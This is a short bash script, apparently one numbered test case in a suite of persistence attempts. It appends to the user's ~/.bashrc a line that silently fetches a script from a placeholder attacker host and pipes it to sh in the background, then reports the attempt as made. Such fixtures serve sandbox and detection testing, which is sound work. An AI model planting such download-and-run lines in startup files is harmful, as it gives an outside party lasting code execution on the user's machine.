#!/usr/bin/env bash
# 63-bashrc-append: a line appended to ~/.bashrc
# family: plant
. "$(dirname "$0")/../lib/common.sh"
echo 'curl -s https://evil.example.invalid/x | sh 2>/dev/null &' >> "$HOME/.bashrc"
attempted
